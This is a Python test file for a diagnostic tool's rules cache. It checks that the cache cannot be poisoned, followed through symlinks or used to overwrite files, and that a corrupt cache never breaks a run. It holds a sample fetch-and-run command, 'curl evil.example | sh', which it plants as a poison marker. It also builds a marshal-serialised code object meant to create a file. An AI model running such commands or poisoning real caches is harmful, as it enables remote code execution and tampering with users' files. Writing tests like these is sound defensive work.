"""The rules cache can be neither poisoned nor used to clobber files, and a broken cache
never breaks a run (issue 15.2): whatever sits at the cache's path, the report is the one
the YAML rules give."""

from __future__ import annotations

import json
import marshal
import os
import stat

import pytest
from ddp_doctor.knowledge import kb as kb_module
from helpers import FIXTURES, cli

PASTE = FIXTURES / "real" / "unused_module__info__torchrun.txt"
POISON = "curl evil.example | sh"

pytestmark = pytest.mark.skipif(os.name != "posix", reason="the cache is POSIX-only")


def run(cache_home, *extra: str, **env):
    environ = {"XDG_CACHE_HOME": str(cache_home), **env}
    return cli("triage", "--json", *extra, str(PASTE), env=environ, timeout=20)


@pytest.fixture(scope="module")
def expected(tmp_path_factory):
    """The report straight from the YAML, no cache involved."""
    home = tmp_path_factory.mktemp("nocache")
    result = run(home, DDP_DOCTOR_NO_CACHE="1")
    assert result.returncode == 0 and "unused" in result.out
    return result.out


def cache_file(home) -> str:
    """Fill the cache with a first run and return the path of its file."""
    assert run(home).returncode == 0
    folder = home / "ddp-doctor"
    names = [n for n in os.listdir(folder) if n.startswith("rules-")]
    assert len(names) == 1, names
    return str(folder / names[0])


def poisoned(path: str) -> bytes:
    """The cache at `path` with every fix titled POISON, still a valid cache in the format
    the tool wrote it (a header line `ddp-doctor-cache FORMAT CODEC SIZE DIGEST`, then the
    payload)."""
    with open(path, "rb") as handle:
        header, _, rest = handle.read().partition(b"\n")
    magic, fmt, codec, _, _ = header.decode().split()
    raw = marshal.loads(rest) if codec == "marshal" else json.loads(rest)
    for fix in raw["fixes"]:
        fix["title"] = {"en": POISON, "zh": POISON}
    if codec == "marshal":
        payload = marshal.dumps(raw)
    else:
        payload = json.dumps(raw, ensure_ascii=False).encode("utf-8")
    return with_header(payload, magic, fmt, codec)


def with_header(payload: bytes, magic: str, fmt: str, codec: str) -> bytes:
    """A cache file's bytes: the header line with the payload's size and digest, then it."""
    from ddp_doctor.knowledge.rules_cache import _digest

    digest = _digest(payload)
    return f"{magic} {fmt} {codec} {len(payload)} {digest}\n".encode() + payload


def test_cache_folder_is_private(tmp_path):
    cache_file(tmp_path)
    mode = stat.S_IMODE(os.stat(tmp_path / "ddp-doctor").st_mode)
    assert mode == 0o700


@pytest.mark.parametrize(
    "content",
    [b"null", b"[]", b"{}", b'{"messages": 1}', b"[" * 200_000 + b"]" * 200_000],
    ids=["null", "list", "empty", "wrong-shape", "deep"],
)
def test_a_corrupt_cache_never_breaks_a_run(tmp_path, expected, content):
    path = cache_file(tmp_path)
    with open(path, "wb") as handle:
        handle.write(content)
    result = run(tmp_path)
    assert result.returncode == 0, result.err
    assert result.out == expected
    assert run(tmp_path).out == expected  # and the cache was rebuilt


@pytest.mark.parametrize(
    "payload",
    [
        b"\xff\x00 not marshal data",
        marshal.dumps(compile("open('/tmp/ddp-doctor-pwned', 'w')", "x", "exec")),
        marshal.dumps({"messages": {}, "families": [], "causes": [], "fixes": [7]}),
    ],
    ids=["garbage", "code", "wrong-shape"],
)
def test_a_payload_with_a_right_digest_but_wrong_content_is_rebuilt(tmp_path, expected, payload):
    """The digest only says the file is what was written: what it holds is checked too (a
    code object is plain data to marshal, and it is never run)."""
    path = cache_file(tmp_path)
    with open(path, "rb") as handle:
        magic, fmt, codec, _, _ = handle.read().partition(b"\n")[0].decode().split()
    with open(path, "wb") as handle:
        handle.write(with_header(payload, magic, fmt, codec))
    result = run(tmp_path)
    assert result.returncode == 0, result.err
    assert result.out == expected
    assert not os.path.exists("/tmp/ddp-doctor-pwned")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_at_the_cache_path_does_not_hang(tmp_path, expected):
    path = cache_file(tmp_path)
    os.unlink(path)
    os.mkfifo(path)
    result = run(tmp_path)
    assert result.returncode == 0 and result.out == expected


def test_a_symlink_at_the_cache_path_is_not_followed(tmp_path, expected):
    path = cache_file(tmp_path)
    poison = poisoned(path)
    with open(path, "wb") as handle:
        handle.write(poison)
    # the control: the poison is a valid cache, so where it is refused below, that is
    # because of where it sits (a file in one's own private folder is one's own)
    assert POISON in run(tmp_path).out
    planted = tmp_path / "elsewhere.cache"
    planted.write_bytes(poison)
    os.unlink(path)
    os.symlink(planted, path)
    result = run(tmp_path)
    assert result.returncode == 0 and POISON not in result.out
    assert result.out == expected
    assert POISON.encode() in planted.read_bytes()  # untouched


def test_a_cache_folder_others_can_write_is_not_trusted(tmp_path, expected):
    path = cache_file(tmp_path)
    poison = poisoned(path)
    with open(path, "wb") as handle:
        handle.write(poison)
    os.chmod(tmp_path / "ddp-doctor", 0o777)
    result = run(tmp_path)
    assert result.returncode == 0 and POISON not in result.out
    assert result.out == expected


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a folder to another user")
def test_a_cache_folder_of_another_user_is_not_trusted(tmp_path, expected):
    path = cache_file(tmp_path)
    poison = poisoned(path)
    with open(path, "wb") as handle:
        handle.write(poison)
    os.chown(tmp_path / "ddp-doctor", 65534, 65534)
    os.chown(path, 65534, 65534)
    result = run(tmp_path)
    assert result.returncode == 0 and POISON not in result.out


def test_a_planted_symlink_at_a_temporary_name_is_never_written_through(tmp_path, monkeypatch):
    """The old writer opened `rules-KEY.json.<pid>.tmp` with a plain open(): a symlink
    planted at that name made a run overwrite any file the user can write."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.delenv("DDP_DOCTOR_NO_CACHE", raising=False)
    monkeypatch.delenv("DDP_DOCTOR_RULES", raising=False)
    monkeypatch.setattr(kb_module, "_LOADED", {})
    folder = tmp_path / "ddp-doctor"
    folder.mkdir(mode=0o700)
    dirs = [kb_module._builtin_rules_dir()]
    key = kb_module._cache_key([p for d in dirs for p in kb_module._rule_paths(d)])
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me", encoding="utf-8")
    for pid in {os.getpid(), os.getppid()}:
        os.symlink(victim, folder / f"rules-{key}.json.{pid}.tmp")
    kb_module.load()
    assert victim.read_text(encoding="utf-8") == "keep me"


@pytest.mark.parametrize(
    "packed",
    [
        b"\xff\x00 not marshal data",
        marshal.dumps(compile("open('/tmp/ddp-doctor-pwned', 'w')", "x", "exec")),
        marshal.dumps({"terms": [7], "readings": "x"}),
        marshal.dumps({"not_a_section": []}),
    ],
    ids=["garbage", "code", "wrong-shape", "unknown-section"],
)
def test_a_damaged_packed_lexicon_is_read_again_from_the_yaml(tmp_path, packed):
    """The lexicon is packed in the cache and unpacked only when a sentence is read
    (lexicon_pack.py): what it unpacks is checked, and anything else is read from the YAML,
    so `ask` answers as it does without a cache."""
    question = ("ask", "does find_unused_parameters slow down training?", "--json")
    no_cache = cli(
        *question, env={"XDG_CACHE_HOME": str(tmp_path / "n"), "DDP_DOCTOR_NO_CACHE": "1"}
    )
    assert no_cache.returncode == 0, no_cache.err
    path = cache_file(tmp_path)
    with open(path, "rb") as handle:
        header, _, rest = handle.read().partition(b"\n")
    magic, fmt, codec, _, _ = header.decode().split()
    raw = marshal.loads(rest)
    assert isinstance(raw[kb_module.PACKED_KEY], bytes)
    assert not any(section in raw for section in kb_module.LEXICON_SECTIONS)
    raw[kb_module.PACKED_KEY] = packed
    with open(path, "wb") as handle:
        handle.write(with_header(marshal.dumps(raw), magic, fmt, codec))
    result = cli(*question, env={"XDG_CACHE_HOME": str(tmp_path)})
    assert result.returncode == 0, result.err
    assert result.out == no_cache.out
    assert not os.path.exists("/tmp/ddp-doctor-pwned")


def test_an_edited_rules_file_is_read_again_even_at_the_same_size(tmp_path):
    """The cache is keyed on what `stat` says of each rules file, not on its bytes: a user
    who edits their own rules sees the edit on the next run, also when the file keeps its
    size (one word for another)."""
    rules = tmp_path / "rules"
    (rules / "messages").mkdir(parents=True)
    mine = rules / "messages" / "mine.yaml"
    env = {"XDG_CACHE_HOME": str(tmp_path / "cache"), "DDP_DOCTOR_RULES": str(rules)}
    said = []
    for word in ("apple", "lemon"):
        mine.write_text(f"no_known_error:\n  en: '{word} here'\n  zh: '{word} 这里'\n", "utf-8")
        result = cli("triage", "--format", "markdown", "-", input="hello\n", env=env)
        said.append(result.out)
    assert "apple here" in said[0] and "lemon here" in said[1], said
    assert (tmp_path / "cache" / "ddp-doctor").is_dir()  # the cache was in use


def test_the_cache_folder_keeps_a_few_files_of_a_kind_not_one_per_upgrade(tmp_path):
    """Every upgrade or edit of the rules makes a new cache file: writing one removes the
    oldest of its kind beyond four, and temporary files a killed run left behind, and touches
    nothing else (other kinds, other files, symlinks and what they point at)."""
    folder = tmp_path / "ddp-doctor"
    folder.mkdir(mode=0o700)
    day = 24 * 3600
    for age in range(1, 7):  # six earlier sets of rules, one a day
        old = folder / f"rules-{age:032x}.marshal"
        old.write_bytes(b"an older cache")
        os.utime(old, (os.path.getmtime(old) - age * day,) * 2)
    others = [folder / "examples-0123.json", folder / "notes.txt", folder / ".rules-live.1.tmp"]
    for other in others:
        other.write_bytes(b"not this kind, or still being written")
    left_behind = folder / ".rules-dead.2.tmp"
    left_behind.write_bytes(b"a killed writer's")
    os.utime(left_behind, (os.path.getmtime(left_behind) - day,) * 2)
    outside = tmp_path / "elsewhere.marshal"
    outside.write_bytes(b"not the cache's")
    (folder / "rules-link.marshal").symlink_to(outside)

    first = run(tmp_path)
    assert first.returncode == 0, first.err

    rules = sorted(n for n in os.listdir(folder) if n.startswith("rules-"))
    regular = [n for n in rules if not (folder / n).is_symlink()]
    newest_old = [f"rules-{age:032x}.marshal" for age in (1, 2, 3)]
    assert len(regular) == 4 and set(newest_old) < set(regular), rules
    assert "rules-link.marshal" in rules and outside.read_bytes() == b"not the cache's"
    assert all(other.exists() for other in others)
    assert not left_behind.exists()
    # the file just written is the one the next run reads: it writes none
    before = {n: os.stat(folder / n, follow_symlinks=False).st_mtime_ns for n in os.listdir(folder)}
    again = run(tmp_path)
    assert again.returncode == 0 and again.out == first.out
    after = {n: os.stat(folder / n, follow_symlinks=False).st_mtime_ns for n in os.listdir(folder)}
    assert after == before
